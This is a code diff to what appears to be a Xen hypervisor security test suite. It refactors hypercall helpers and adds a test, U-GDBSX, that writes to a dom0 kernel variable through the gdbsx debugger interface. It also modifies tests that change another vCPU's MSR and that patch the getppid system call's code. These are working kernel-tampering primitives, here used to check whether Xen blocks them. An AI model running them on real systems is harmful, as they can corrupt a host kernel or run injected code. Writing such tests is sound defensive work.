@@ -170,16 +170,10 @@ static bool has_rdtscp(void)
 static void set_auxiliary(unsigned int vcpu, uint64_t value)
 {
     static const uint32_t msr_tsc_aux = 0xc0000103;
-    struct xen_domctl *op = buffer(sizeof(*op));
-    struct xen_domctl_vcpu_msr *msr = buffer(sizeof(*msr));
+    struct xen_domctl_vcpu_msr msr = { .index = msr_tsc_aux, .value = value };
 
-    msr->index = msr_tsc_aux;
-    msr->value = value;
-    op->cmd = XEN_DOMCTL_set_vcpu_msrs;
-    op->u.vcpu_msrs.vcpu = vcpu;
-    op->u.vcpu_msrs.msr_count = 1;
-    set_xen_guest_handle(op->u.vcpu_msrs.msrs, msr);
-    domctl(op);
+    DOMCTL(set_vcpu_msrs, 0,
+           .u.vcpu_msrs = { .vcpu = vcpu, .msr_count = 1, .msrs.p = &msr });
 }
 
 /*
@@ -188,7 +182,8 @@ static void set_auxiliary(unsigned int vcpu, uint64_t value)
  * Of those that set_vcpu_msrs knows, one holds the CPU's number for whoever asks
  * the processor. Others turn protections of the processor's on or off.
  */
-ATTACK("U-SETCTX-MSR", "change an MSR of another vCPU of dom0's")
+PV_ATTACK("U-SETCTX-MSR", "change an MSR of another vCPU of dom0's",
+          "Xen keeps an HVM vCPU's MSRs elsewhere")
 {
     static const uint32_t lie = 0x5ca1ab1e;
     const unsigned int other = other_vcpu();
@@ -197,9 +192,6 @@ ATTACK("U-SETCTX-MSR", "change an MSR of another vCPU of dom0's")
     uint64_t rounds;
     pid_t child;
 
-    if ( !dom0_is_pv() )
-        return not_applicable(
-            "PV only: Xen keeps an HVM vCPU's MSRs elsewhere");
     if ( !other )
         return not_applicable("this dom0 has one vCPU only");
     if ( !has_rdtscp() )
@@ -223,16 +215,34 @@ ATTACK("U-SETCTX-MSR", "change an MSR of another vCPU of dom0's")
 
 static long debugger_write(uint64_t address, const void *bytes, uint32_t size)
 {
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_gdbsx_guestmemio, .domain = 0 };
-    char *copy = buffer(PAGE_SIZE);
+    char *copy = memcpy(buffer(PAGE_SIZE), bytes, size);
 
-    memcpy(copy, bytes, size);
-    op.u.gdbsx_guest_memio.gva = address;
-    op.u.gdbsx_guest_memio.uva = (uintptr_t)copy;
-    op.u.gdbsx_guest_memio.len = size;
-    op.u.gdbsx_guest_memio.gwr = 1;
+    return DOMCTL(
+        gdbsx_guestmemio, 0,
+        .u.gdbsx_guest_memio = {
+            .gva = address, .uva = (uintptr_t)copy, .len = size, .gwr = 1 });
+}
 
-    return domctl(&op);
+static enum outcome debugger_wrote(bool seen, long result, const char *what,
+                                   const char *if_so, const char *if_not)
+{
+    if ( !seen && (result == -ENOSYS || result == -EOPNOTSUPP) )
+        return not_applicable("this Xen is built without gdbsx");
+    return effect_either(seen, what, if_so, if_not);
+}
+
+/*
+ * U-GDBSX: write to the kernel as a debugger of guests would.
+ *
+ * gdbsx's memory access walks the page tables of whichever domain it is given,
+ * with no regard to what they make read-only.
+ */
+ATTACK("U-GDBSX", "write to a kernel variable through gdbsx")
+{
+    const long result = debugger_write(victim(), new_mark(), MARK_SIZE);
+
+    return debugger_wrote(victim_has_mark(), result, "the kernel's version",
+                          "rewritten", "unchanged");
 }
 
 /*
@@ -254,9 +264,8 @@ ATTACK("U-GDBSX-TEXT", "change a system call through gdbsx")
     lied = getppid_lies();
     debugger_write(code, original, sizeof(original));
 
-    if ( !lied && (result == -ENOSYS || result == -EOPNOTSUPP) )
-        return not_applicable("this Xen is built without gdbsx");
-    return effect_either(lied, "getppid", "ran code of ours", "intact");
+    return debugger_wrote(lied, result, "getppid", "ran code of ours",
+                          "intact");
 }
 
 /* ---- what Xen refuses to a domain that acts on itself ---- */
@@ -282,17 +291,12 @@ ATTACK("U-SETCTX-SELF", "destroy, resume, shadow or step dom0 itself")
         XEN_DOMCTL_vmtrace_op,          XEN_DOMCTL_max_vcpus,
     };
     static const domid_t domids[] = { 0, DOMID_SELF, DOMID_INVALID };
-    struct xen_domctl *op = buffer(PAGE_SIZE);
 
     announce("about to act on dom0");
     for ( size_t i = 0; i < ARRAY_SIZE(commands); i++ )
         for ( size_t j = 0; j < ARRAY_SIZE(domids); j++ )
-        {
-            memset(op, 0, sizeof(*op));
-            op->cmd = commands[i];
-            op->domain = domids[j];
-            domctl(op);
-        }
+            domctl(&(struct xen_domctl){ .cmd = commands[i],
+                                         .domain = domids[j] });
 
     return effect(false, "dom0 runs on as before");
 }
